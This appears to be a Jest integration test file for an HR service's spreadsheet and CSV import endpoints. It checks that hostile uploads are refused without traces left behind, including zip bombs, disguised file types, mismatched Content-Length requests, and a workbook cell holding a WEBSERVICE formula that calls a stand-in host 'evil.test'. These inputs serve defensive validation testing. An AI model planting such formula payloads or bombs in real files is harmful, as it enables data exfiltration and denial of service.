import { eventually, packed, workbookOf } from '@jejak/testing';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { type City, startCity } from './city';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const UNITS = ['unit_code', 'name', 'kind', 'parent_code', 'from', 'to'];
const EMPLOYEES = [
  ...['nip', 'nik', 'name', 'kind', 'golongan', 'jenjang', 'position', 'unit_code', 'supervisor_nip'],
  ...['start', 'contract_end', 'email'],
];
const HEAD = ['DINKES', 'Dinas Kesehatan', 'OPD', '', '2020-01-01', ''];
const csvOf = (rows: readonly (readonly string[])[]): string => rows.map((row) => row.join(',')).join('\n');

let city: City;
let hr: string;
const { TMPDIR } = process.env;
const folder = mkdtempSync(join(tmpdir(), 'jejak-uploads-'));
beforeAll(async () => {
  city = await startCity();
  // Uploads of this service are written here, and nothing else is.
  process.env.TMPDIR = folder;
  hr = await city.token('hr_admin');
}, 120_000);
afterAll(async () => {
  await city.stop();
  if (TMPDIR === undefined) delete process.env.TMPDIR;
  else process.env.TMPDIR = TMPDIR;
  rmSync(folder, { recursive: true });
}, 60_000);

const facts = async (): Promise<number> => {
  const { rows } = await city.career.platform.pool.query<{ n: number }>(
    `select count(*)::int as n from es.events where stream_id not like 'heartbeat-%'`,
  );
  return rows[0].n;
};
const folders = (): string[] => readdirSync(folder);

describe('a hostile file', () => {
  const good = csvOf([UNITS, HEAD]);
  it.each<[string, () => Promise<Buffer> | Buffer | string, number, string]>([
    ['empty', () => '', 400, 'BODY_INCOMPLETE'],
    ['a header only', () => UNITS.join(','), 400, 'FILE_EMPTY'],
    [
      'with a column twice',
      () =>
        csvOf([
          [...UNITS, 'name'],
          [...HEAD, 'x'],
        ]),
      400,
      'COLUMN_REPEATED',
    ],
    ['UTF-16', () => Buffer.from(`\ufeff${good}`, 'utf16le'), 400, 'ENCODING_INVALID'],
    ['Latin-1', () => Buffer.from(`\u00e9${good}`, 'latin1'), 400, 'ENCODING_INVALID'],
    ['NUL', () => Buffer.alloc(4096), 400, 'TEXT_INVALID'],
    ['gzip', () => gzipSync(good), 400, 'FILE_KIND_UNKNOWN'],
    ['an XLS', () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), 400, 'FILE_KIND_UNKNOWN'],
    ['HTML that is called a workbook', () => '<html><table></table></html>', 400, 'FILE_KIND_UNKNOWN'],
    ['PDF', () => '%PDF-1.7\n', 400, 'FILE_KIND_UNKNOWN'],
    ['a plain archive', () => packed({ 'units.csv': good }), 400, 'WORKBOOK_INVALID'],
    [
      'an archive in an archive',
      async () => packed({ a: await packed({ b: 'c' }) }),
      400,
      'WORKBOOK_INVALID',
    ],
    [
      'a bomb',
      () => workbookOf([], { 'xl/worksheets/sheet1.xml': Buffer.alloc(64 * 1024 * 1024, ' ') }),
      413,
      'WORKBOOK_TOO_LARGE',
    ],
    ['cut off', async () => (await workbookOf([UNITS, HEAD])).subarray(0, -30), 400, 'ARCHIVE_INVALID'],
    ['too long', () => Buffer.alloc(10 * 1024 * 1024 + 1, 'a'), 413, 'BODY_TOO_LARGE'],
    ['one line', () => 'x'.repeat(1_000_000), 400, 'CELL_TOO_LONG'],
    ['too many rows', () => `${UNITS.join(',')}\n${'x\n'.repeat(100_001)}`, 413, 'TOO_MANY_ROWS'],
  ])('that is %s is refused in words, and leaves nothing behind', async (_, make, status, code) => {
    const before = await facts();
    const answer = await city.send('/imports/units', hr, await make(), XLSX);
    expect([answer.status, answer.body.code]).toEqual([status, code]);
    expect(answer.headers.get('content-type')).toContain('application/problem+json');
    expect(answer.body.next).toEqual(expect.any(String));
    expect(await facts()).toBe(before);
    expect(folders()).toEqual([]);
  });

  it.each([
    ['less than it says', 1000],
    // What is too much is the beginning of a second request, and no request.
    ['more than it says', 3],
  ])('that is %s leaves nothing behind', async (_, length) => {
    const before = await facts();
    const { port, hostname } = new URL(city.career.url);
    await new Promise<void>((resolve) => {
      const socket = connect(Number(port), hostname, () => {
        socket.write(
          `POST /v1/imports/units HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${hr}\r\nContent-Type: text/csv\r\nContent-Length: ${length}\r\n\r\n${good}`,
        );
        setTimeout(() => socket.end(), 100);
      });
      socket
        .resume()
        .on('close', () => resolve())
        .on('error', () => resolve());
    });
    await eventually('its folder is gone', () => folders().length === 0);
    expect(await facts()).toBe(before);
  });

  it('has its formulas refused by row, column and rule', async () => {
    const formula = { xml: '<c><f>WEBSERVICE("http://evil.test")</f><v>1</v></c>' };
    const book = await workbookOf([UNITS, HEAD, ['DINDIK', formula, 'OPD', '', '2020-01-01', '']]);
    const { status, body } = await city.send('/imports/units', hr, book, XLSX);
    expect([status, body.code]).toEqual([422, 'IMPORT_REJECTED']);
    expect(body.report.faults).toEqual([
      { row: 2, line: 3, column: 'name', code: 'FORMULA_REFUSED', rule: expect.stringContaining('formula') },
    ]);
  });
});

describe('a city of 1 000', () => {
  const number = (at: number, digits: number): string => String(at).padStart(digits, '0');
  const nip = (at: number): string => `19900101${number(at, 10)}`;
  const employee = (at: number): string[] => [
    ...[nip(at), `12710101${number(at, 8)}`, `Pegawai ${at}`, 'PNS', 'III/b', 'Ahli Pertama', 'Perawat'],
    ...['DINKES', at === 1 ? '' : nip(at % 10 === 1 ? 1 : at - ((at - 1) % 10)), '2020-01-01', '', ''],
  ];
  const rows = Array.from({ length: 1_000 }, (_, at) => employee(at + 1));

  it('begins with its units, from a workbook under any name', async () => {
    const book = await workbookOf([UNITS, HEAD]);
    const { body } = await city.send('/imports/units', hr, book, 'application/vnd.ms-excel');
    expect(body).toMatchObject({ state: 'COMPLETED', rows: 1, accepted: 1 });
    // The same file again is the first report.
    expect((await city.send('/imports/units', hr, book, XLSX)).body).toEqual(body);
    // The same rows as CSV are another file, whose rows are there already.
    const before = await facts();
    const { body: csv } = await city.send('/imports/units', hr, csvOf([UNITS, HEAD]));
    expect(csv).toMatchObject({ state: 'COMPLETED', rows: 1, rejected: 0 });
    // That the file is in is one fact, and no more.
    expect(await facts()).toBe(before + 1);
  });

  it('can be had as files, by whom its lists are', async () => {
    const units = await eventually('the unit is on the chart', async () => {
      const { bytes } = await city.get('/units?format=csv', hr);
      return bytes.toString().includes('DINKES') && bytes.toString();
    });
    expect(units).toMatch(
      /^unitId,code,name,kind,parentUnitId,from,to\r\n[-0-9a-f]{36},DINKES,Dinas Kesehatan,OPD,,2020-01-01,\r\n$/,
    );
    const book = await city.get('/units', hr, { accept: XLSX });
    expect(book.headers.get('content-disposition')).toBe('attachment; filename="units.xlsx"');
    expect(book.bytes.subarray(0, 2).toString()).toBe('PK');
    const nobody = await city.get('/employees?format=csv', await city.token('employee'));
    expect(nobody.bytes.toString()).toBe(
      'employeeId,kind,golongan,jenjang,start,contractEnd,positions,relations,duties\r\n',
    );
    const outsiders = await city.get('/outsiders?format=csv', await city.token('employee'));
    expect([outsiders.status, outsiders.body.code]).toEqual([403, 'FORBIDDEN_ROLE']);
  });

  it('is looked through in both forms with the same result', async () => {
    const broken = rows.map((row, at) => (at % 100 === 7 ? row.with(9, '2020-02-30') : row));
    const book = await city.send(
      '/imports/employees?dryRun=true',
      hr,
      await workbookOf([EMPLOYEES, ...broken]),
      XLSX,
    );
    expect(book.body).toMatchObject({ state: 'DRY_RUN', rows: 1_000, rejected: 10, accepted: 990 });
    expect(book.body.faults[1]).toMatchObject({
      row: 108,
      line: 109,
      column: 'start',
      code: 'DATE_INVALID',
    });
    const csv = await city.send('/imports/employees?dryRun=true', hr, csvOf([EMPLOYEES, ...broken]));
    const { importId: _, fileSha256: __, ...same } = csv.body;
    expect(book.body).toMatchObject(same);
  }, 120_000);

  it('waits while the database takes nothing, and goes on', async () => {
    const { pool } = city.career.platform;
    const holder = await pool.connect();
    /** When statements began that wait for the numbers of people, each by its moment. */
    const waiting = async (): Promise<string[]> => {
      const { rows: found } = await pool.query<{ began: string }>(
        `select query_start::text as began from pg_stat_activity
         where wait_event_type = 'Lock' and query like '%career.identity_index%' and datname = current_database()`,
      );
      return found.map(({ began }) => began);
    };
    try {
      await holder.query('begin');
      await holder.query('set local idle_in_transaction_session_timeout = 0');
      // Looking the file through goes on; reserving numbers waits, until the server gives it up.
      await holder.query('lock table career.identity_index in share mode');
      const sent = city.send('/imports/employees', hr, csvOf([EMPLOYEES, ...rows]));
      const [first] = await eventually('it waits', async () => {
        const found = await waiting();
        return found.length > 0 && found;
      });
      await eventually('it was given up', async () => !(await waiting()).includes(first));
      await holder.query('commit');
      expect((await sent).body).toMatchObject({
        state: 'COMPLETED',
        rows: 1_000,
        accepted: 1_000,
        rejected: 0,
      });
    } finally {
      holder.release();
    }
  }, 120_000);
});
